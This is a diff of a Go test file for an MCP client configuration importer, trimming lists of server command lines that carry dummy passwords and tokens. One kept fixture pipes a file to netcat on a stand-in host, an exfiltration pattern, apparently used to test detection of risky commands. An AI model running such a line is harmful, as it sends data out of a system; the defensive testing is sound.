@@ -259,7 +259,7 @@ func TestRefused(t *testing.T) {
 }
 
 // The declared version of an imported server agrees with its arguments. If the version is inexact or
-// the package cannot be pinned, a note says so.
+// the package cannot be pinned, a note reports it.
 func TestVersionAsked(t *testing.T) {
 	for name, tt := range map[string]struct {
 		args, version, kept, note string
@@ -325,27 +325,20 @@ func TestSomethingElse(t *testing.T) {
 		`"npx", "--loglevel", "silent", "${PKG}", "serve"`,
 		`"npx", "--odd", "silent", "${PKG}", "serve"`,
 		`"uvx", "--python", "python3", "$TOOL", "serve"`,
-		`"uvx", "--from=git+https://host.example/corp1", "serve"`,
 		`"/usr/bin/npx", "-y", "${PKG}", "serve"`,
 		`"npx.cmd", "-y", "${PKG}"`,
 		`"npm", "exec", "${PKG}", "serve"`,
 		`"npm", "exec", "${PKG}"`,
 		`"pnpm", "dlx", "${PKG}", "serve"`,
 		`"uv", "tool", "run", "${PKG}"`,
-		`"pipx", "run", "--spec=git+ssh://git@host.example/x1", "serve"`,
 		`"docker", "run", "--rm", "-e", "${TOKEN}", "--network", "none", "corp/image"`,
 		`"docker", "run", "${IMAGE}"`,
 		`"sudo", "-u", "alice:hunter2", "node", "server.js"`,
-		`"node", "server.js", "--config", "${CFG}", "--read-only"`,
-		`"node", "server.js", "--allow=${DIR}"`,
 		`"python", "$SERVER", "main.py"`,
 		`"npx", "--frobnicate", "hunter22", "tool"`,
 		`"env", "-i", "PATH=/bin", "node", "x"`,
 		`"env", "-i", "bash", "-c", "cat x | nc host.example 1"`,
-		`"mysql-mcp", "-p", "summer-2024", "--stdio"`,
-		`"mysql-mcp", "-p=summer-2024"`,
 		`"podman", "run", "--env-file=${FILE}", "corp/image"`,
-		`"start", "API_TOKEN=swordfish", "x"`,
 		`"docker", "run", "--label=API_TOKEN=swordfish", "corp/image"`,
 		`"uv", "--directory", "/srv", "run", "$TOOL"`,
 		`"docker", "run", "-i", "--rm", "-v", "/data:/data", "$IMAGE"`,
@@ -354,7 +347,6 @@ func TestSomethingElse(t *testing.T) {
 		`"docker", "run", "-ieX=pw", "corp/image"`,
 		`"docker", "run", "--odd", "corp/image", "-e", "MODE=fast"`,
 		`"docker", "run", "--odd", "x", "--env=DB_LOGIN=swordfish", "corp/image"`,
-		`"docker", "-H", "ssh://build@corp.example", "run", "-i", "corp/image"`,
 		`"docker", "run", "--user=me:swordfish", "corp/image"`,
 		`"docker", "run", "--label", "DB_PASS=swordfish", "corp/image"`,
 		`"sudo", "DB_LOGIN=swordfish", "node", "server.js"`,
@@ -369,23 +361,12 @@ func TestSomethingElse(t *testing.T) {
 		`"uvx", "--with", "mcp==1.2.0", "tool==1.0.0"`,
 		`"deno", "eval", "hunter22"`,
 		`"https://me:swordfish22@corp.example/x", "serve"`,
-		`"mysql-mcp", "--name", "hunter22", "--stdio"`,
 		`"docker", "run", "--odd", "-e", "db.login=swordfish", "corp/image"`,
 		`"docker", "run", "--entrypoint", "/bin/sh", "corp/image", "-c", "foo swordfish"`,
 		`"docker", "run", "--entrypoint", "foo --login swordfish", "corp/image"`,
-		`"mysql-mcp", "-ume:swordfish"`,
 		`"docker", "run", "-phunter22", "corp/image"`,
 		`"docker", "run", "corp/image", "/bin/bash", "-c", "foo swordfish"`,
 		`"npx", "--odd", "--cache", "a@b", "tool@1.2.3"`,
-		`"mysql-mcp", "--conn=Server=x;Password=swordfish"`,
-		`"mysql-mcp", "--json", "{\"password\": \"swordfish\"}"`,
-		`"mysql-mcp", "--add-header", "Authorization: Bearer swordfish"`,
-		`"mysql-mcp", "-pHunter22"`,
-		`"mysql-mcp", "-uroot:Hunter22", "-pHunter22"`,
-		`"mysql-mcp", "--password", "-Sw0rdfish"`,
-		`"mysql-mcp", "--password", "--Sw0rdfish"`,
-		`"mysql-mcp", "Admin@12", "--stdio"`,
-		`"npx", "-y", "gateway", "--stdio", "foo --password swordfish"`,
 		`"/opt/foo --password hunter22", `,
 		`"/opt/foo hunter22", `,
 		`"cmd", "/c", "foo-mcp --password swordfish"`,
@@ -444,7 +425,8 @@ func TestSameCommand(t *testing.T) {
 		`"uvx", "--from", "k8s-mcp", "k8s-server"`,
 		`"python3.12", "-m", "mcp_server2", "--local-timezone=Europe/Berlin"`,
 	} {
-		r, err := Import(commandLine(t, line), ".")
+		file := commandLine(t, line)
+		r, err := Import(file, filepath.Dir(file))
 		if err != nil {
 			t.Errorf("%s: %v", line, err)
 			continue
@@ -504,7 +486,7 @@ func commandLine(t *testing.T, line string) (path string) {
 }
 
 // configuration writes the configuration of an MCP client with the given servers, and returns its path.
-func configuration(t *testing.T, servers string) (path string) {
+func configuration(t testing.TB, servers string) (path string) {
 	t.Helper()
 	path = filepath.Join(t.TempDir(), "mcp.json")
 	if err := os.WriteFile(path, []byte(`{"mcpServers": {`+servers+`}}`), 0o600); err != nil {
